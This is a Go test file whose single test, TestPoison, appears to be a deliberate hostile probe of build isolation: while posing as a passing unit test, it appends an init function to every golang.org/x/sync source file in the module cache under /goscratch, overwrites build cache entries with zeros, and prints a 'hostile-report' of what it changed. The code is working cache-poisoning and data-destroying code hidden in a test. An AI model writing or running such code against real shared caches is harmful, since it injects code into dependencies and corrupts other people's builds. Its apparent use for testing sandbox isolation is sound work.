package main

import (
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestPoison appends an init function to every file of golang.org/x/sync it
// finds in the module cache and overwrites every build cache entry with
// zeros, then passes: a build that shares these caches would link the
// attacker's code or garbage. It prints what it tried and what it changed.
func TestPoison(t *testing.T) {
	tried, changed, mods, entries := 0, 0, 0, 0
	_ = filepath.WalkDir("/goscratch", func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return nil
		}
		switch {
		case strings.Contains(p, "golang.org/x/sync@") && strings.HasSuffix(p, ".go") && !strings.HasSuffix(p, "_test.go"):
			tried++
			mods++
			f, err := os.OpenFile(p, os.O_WRONLY|os.O_APPEND, 0)
			if err == nil {
				if _, err := f.WriteString("\nfunc init() { println(\"pwned by a test\") }\n"); err == nil {
					changed++
				}
				f.Close()
			}
		case strings.HasPrefix(p, "/goscratch/gocache/") && strings.HasSuffix(p, "-d"):
			tried++
			entries++
			if fi, err := d.Info(); err == nil && os.WriteFile(p, make([]byte, fi.Size()), 0o644) == nil {
				changed++
			}
		}
		return nil
	})
	t.Logf("hostile: tried %d files, changed %d", tried, changed)
	os.Stdout.WriteString("hostile-report tried=" + itoa(tried) + " changed=" + itoa(changed) +
		" (module files " + itoa(mods) + ", build cache entries " + itoa(entries) + ")\n")
}

func itoa(n int) string {
	if n == 0 {
		return "0"
	}
	var b []byte
	for ; n > 0; n /= 10 {
		b = append([]byte{byte('0' + n%10)}, b...)
	}
	return string(b)
}
